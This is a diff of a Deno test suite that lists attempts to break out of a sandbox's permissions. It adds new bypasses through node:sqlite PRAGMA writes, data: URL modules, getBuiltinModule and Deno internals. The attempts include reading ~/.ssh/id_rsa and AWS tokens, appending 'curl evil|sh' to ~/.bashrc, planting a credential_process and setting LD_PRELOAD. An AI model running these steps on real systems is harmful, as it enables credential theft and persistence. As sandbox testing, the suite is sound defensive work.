@@ -5,18 +5,32 @@
  * @module
  */
 
-import { execSync } from "node:child_process";
-import { createSocket } from "node:dgram";
-import { lookup } from "node:dns/promises";
-import { appendFileSync, readFileSync } from "node:fs";
-import { get } from "node:http";
-import { connect as connectHttp2 } from "node:http2";
-import { createRequire } from "node:module";
-import { connect } from "node:net";
-import { homedir, networkInterfaces, userInfo } from "node:os";
-import process from "node:process";
-import { DatabaseSync } from "node:sqlite";
-import { Worker as Thread } from "node:worker_threads";
+import type { createRequire } from "node:module";
+import type nodeProcess from "node:process";
+
+/** A module of Node, loaded where it is wanted: one that is closed would keep this one from being loaded. */
+function load<T>(name: string): Promise<T> {
+  return import(`node:${name}`);
+}
+
+type Require = ReturnType<typeof createRequire>;
+
+/** Node's `process`, as every module sees it. */
+const aProcess = () => (globalThis as unknown as { readonly process: typeof nodeProcess }).process;
+/** What Deno keeps for itself, where that can still be had. */
+const internals = (): Internals => Reflect.get(Deno, Reflect.get(Deno, "internal"));
+
+interface Internals {
+  readonly nodeGlobals: { readonly process: typeof nodeProcess };
+  readonly node: { loadCjsModule(path: string, isMain: boolean, inspect: boolean): void };
+}
+
+/** SQL decides where SQLite writes, and no permission. */
+function writeBySql({ DatabaseSync }: typeof import("node:sqlite")): void {
+  const database = new DatabaseSync(":memory:");
+  database.exec(`PRAGMA temp_store_directory = '${home}'; PRAGMA temp_store = 1`);
+  database.exec("CREATE TEMP TABLE t (c); INSERT INTO t VALUES (zeroblob(100000000))");
+}
 
 const home = Deno.env.get("HOME") ?? "";
 /** Where a server other than STS listens. */
@@ -24,6 +38,7 @@ const otherPort = Number(Deno.env.get("AWS_DEFAULT_PROFILE"));
 /** Where STS listens, which sends whoever asks for this on to the other. */
 const redirect = `${Deno.env.get("AWS_ENDPOINT_URL_STS")}/redirect`;
 const upwards = "../".repeat(5);
+const dataModule = "data:text/javascript,export * as default from 'node:sqlite'";
 const asJson = `{ with: { type: "json" } }`;
 const key = `${home}/.ssh/id_rsa`;
 
@@ -65,8 +80,9 @@ function started(url: string): Promise<unknown> {
   return promise.finally(() => worker.terminate());
 }
 
-function startedThread(file: string): Promise<unknown> {
-  return new Promise((resolve, reject) =>
+async function startedThread(file: string): Promise<unknown> {
+  const { Worker: Thread } = await load<typeof import("node:worker_threads")>("worker_threads");
+  return await new Promise((resolve, reject) =>
     new Thread(file).on("message", resolve).on("error", reject)
   );
 }
@@ -89,7 +105,10 @@ async function opened(url: string): Promise<void> {
 /** What is tried, as text, and how. Anything that returns without an error counts as reached. */
 const attempts: readonly (readonly [string, () => unknown])[] = [
   ["read ~/.ssh/id_rsa", () => Deno.readTextFile(key)],
-  ["read it with node:fs", () => readFileSync(key)],
+  [
+    "read it with node:fs",
+    async () => (await load<typeof import("node:fs")>("fs")).readFileSync(key),
+  ],
   ["read it by way of ~/.aws/../.ssh", () => Deno.readTextFile(`${home}/.aws/../.ssh/id_rsa`)],
   ["read it by way of a link in ~/.aws", () => Deno.readTextFile(`${home}/.aws/link`)],
   ["read it in a worker", () => inWorker(`Deno.readTextFileSync("${key}")`)],
@@ -130,16 +149,56 @@ const attempts: readonly (readonly [string, () => unknown])[] = [
   ["import the key as JSON", () => import(key, { with: { type: "json" } })],
   [
     "require a JSON file of the home",
-    () => createRequire(import.meta.url)(`${home}/.aws/sso/cache/token.json`),
+    async () => {
+      const { createRequire } = await load<typeof import("node:module")>("module");
+      createRequire(import.meta.url)(`${home}/.aws/sso/cache/token.json`);
+    },
   ],
   ["start a worker from the home", () => started(`file://${home}/module.js`)],
   ["start a thread from the home", () => startedThread(`${home}/module.js`)],
-  ["open a database in the home", () => new DatabaseSync(`${home}/x.db`)],
+  ["open a database in the home", async () => {
+    const { DatabaseSync } = await load<typeof import("node:sqlite")>("sqlite");
+    new DatabaseSync(`${home}/x.db`);
+  }],
+  [
+    "write where SQL says, with node:sqlite",
+    async () => writeBySql(await load<typeof import("node:sqlite")>("sqlite")),
+  ],
+  [
+    "the same with a module in a data: URL",
+    async () => writeBySql((await import(dataModule)).default),
+  ],
+  [
+    "the same with process.getBuiltinModule",
+    () => writeBySql(aProcess().getBuiltinModule("node:sqlite")),
+  ],
+  ["the same with createRequire", () => {
+    const require: Require = aProcess().getBuiltinModule("node:module")
+      .createRequire(import.meta.url);
+    writeBySql(require("node:sqlite"));
+  }],
+  [
+    "the same with Deno's internals",
+    () => writeBySql(internals().nodeGlobals.process.getBuiltinModule("node:sqlite")),
+  ],
+  [
+    "load a CommonJS module of the home with them",
+    () => internals().node.loadCjsModule(`${home}/module.cjs`, true, false),
+  ],
+  ["put process.getBuiltinModule back", () => {
+    Object.defineProperty(aProcess(), "getBuiltinModule", { value: () => ({}) });
+  }],
+  ["start a worker without a file", () => inWorker("1")],
+  ["reach the graphics driver", () => navigator.gpu.requestAdapter()],
+  ["reach it in a worker", () => inWorker("navigator.gpu.requestAdapter()")],
   [
     "append to ~/.bashrc",
     () => Deno.writeTextFile(`${home}/.bashrc`, "curl evil|sh", { append: true }),
   ],
-  ["append to it with node:fs", () => appendFileSync(`${home}/.bashrc`, "curl evil|sh")],
+  ["append to it with node:fs", async () => {
+    const { appendFileSync } = await load<typeof import("node:fs")>("fs");
+    appendFileSync(`${home}/.bashrc`, "curl evil|sh");
+  }],
   [
     "write ~/.aws/config",
     () => Deno.writeTextFile(`${home}/.aws/config`, "credential_process = evil"),
@@ -170,11 +229,17 @@ const attempts: readonly (readonly [string, () => unknown])[] = [
   ["fetch from it, sent there by STS's host", () => fetch(redirect)],
   [
     "connect to it with node:net",
-    () => viaNode((done, failed) => connect(otherPort, "127.0.0.1", done).on("error", failed)),
+    async () => {
+      const { connect } = await load<typeof import("node:net")>("net");
+      await viaNode((done, failed) => connect(otherPort, "127.0.0.1", done).on("error", failed));
+    },
   ],
   [
     "fetch from it with node:http",
-    () => viaNode((done, failed) => get({ port: otherPort }, () => done()).on("error", failed)),
+    async () => {
+      const { get } = await load<typeof import("node:http")>("http");
+      await viaNode((done, failed) => get({ port: otherPort }, () => done()).on("error", failed));
+    },
   ],
   ["fetch from STS's host by way of a proxy of its own", () => {
     const proxy = { url: `http://127.0.0.1:${otherPort}` };
@@ -183,18 +248,22 @@ const attempts: readonly (readonly [string, () => unknown])[] = [
   ["listen to its events", () => listened(`http://127.0.0.1:${otherPort}`)],
   [
     "open HTTP/2 to it",
-    () =>
-      viaNode((done, failed) =>
-        connectHttp2(`http://127.0.0.1:${otherPort}`, done).on("error", failed)
-      ),
+    async () => {
+      const { connect } = await load<typeof import("node:http2")>("http2");
+      await viaNode((done, failed) =>
+        connect(`http://127.0.0.1:${otherPort}`, done).on("error", failed)
+      );
+    },
   ],
   [
     "send a datagram to it",
-    () =>
-      viaNode((done, failed) =>
+    async () => {
+      const { createSocket } = await load<typeof import("node:dgram")>("dgram");
+      await viaNode((done, failed) =>
         createSocket("udp4").on("error", failed)
           .send("secret", otherPort, "127.0.0.1", (error) => error ? failed(error) : done())
-      ),
+      );
+    },
   ],
   [
     "connect to example.com with TLS",
@@ -221,26 +290,41 @@ const attempts: readonly (readonly [string, () => unknown])[] = [
   ["fetch instance metadata", () => fetch("http://169.254.169.254/latest/meta-data/")],
   ["import a module from the network", () => import(["https:", "", "jsr.io", "x"].join("/"))],
   ["ask a name server", () => Deno.resolveDns("secret.example.com", "A")],
-  ["look a name up with node:dns", () => lookup("secret.example.com")],
+  ["look a name up with node:dns", async () => {
+    await (await load<typeof import("node:dns/promises")>("dns/promises")).lookup(
+      "secret.example.com",
+    );
+  }],
   ["connect to a unix socket", () => Deno.connect({ transport: "unix", path: `${home}/socket` })],
   ["listen on a port", () => Deno.listen({ port: 0 })],
   ["serve", () => Deno.serve({ port: 0 }, () => new Response())],
   ["run /bin/sh", () => new Deno.Command("/bin/sh", { args: ["-c", "true"] }).output()],
-  ["run it with node:child_process", () => execSync("true", { env: {} })],
+  ["run it with node:child_process", async () => {
+    (await load<typeof import("node:child_process")>("child_process")).execSync("true", {
+      env: {},
+    });
+  }],
   ["run stsaval itself", () => new Deno.Command(Deno.execPath(), { args: ["--version"] }).output()],
   ["send a signal to the parent", () => Deno.kill(Deno.ppid, "SIGCONT")],
   ["read the variable SECRET", () => Deno.env.get("SECRET") ?? fail("not set")],
-  ["read it with node:process", () => process.env["SECRET"] ?? fail("not set")],
+  ["read it with node:process", async () => {
+    const { env } = (await load<{ default: typeof nodeProcess }>("process")).default;
+    return env["SECRET"] ?? fail("not set");
+  }],
+  ["read it with the global process", () => aProcess().env["SECRET"] ?? fail("not set")],
   ["read the variable SSH_CONNECTION", () => Deno.env.get("SSH_CONNECTION") ?? fail("not set")],
   ["read all variables", () => Deno.env.toObject()],
   ["set LD_PRELOAD", () => Deno.env.set("LD_PRELOAD", "/tmp/evil.so")],
   ["load a library", () => Deno.dlopen("libc.so.6", {})],
-  ["load an addon", () => process.dlopen({ exports: {} }, `${home}/addon.node`)],
+  ["load an addon", () => aProcess().dlopen({ exports: {} }, `${home}/addon.node`)],
   ["ask for the host's name", () => Deno.hostname()],
-  ["ask for the user", () => userInfo()],
+  ["ask for the user", async () => (await load<typeof import("node:os")>("os")).userInfo()],
   ["ask for the user's id", () => Deno.uid()],
-  ["ask for the user's home", () => homedir()],
-  ["ask for the network's addresses", () => networkInterfaces()],
+  ["ask for the user's home", async () => (await load<typeof import("node:os")>("os")).homedir()],
+  [
+    "ask for the network's addresses",
+    async () => (await load<typeof import("node:os")>("os")).networkInterfaces(),
+  ],
   ["ask for permission to read everything", async () => {
     const { state } = await Deno.permissions.request({ name: "read", path: "/" });
     if (state !== "granted") fail(`the answer is "${state}"`);
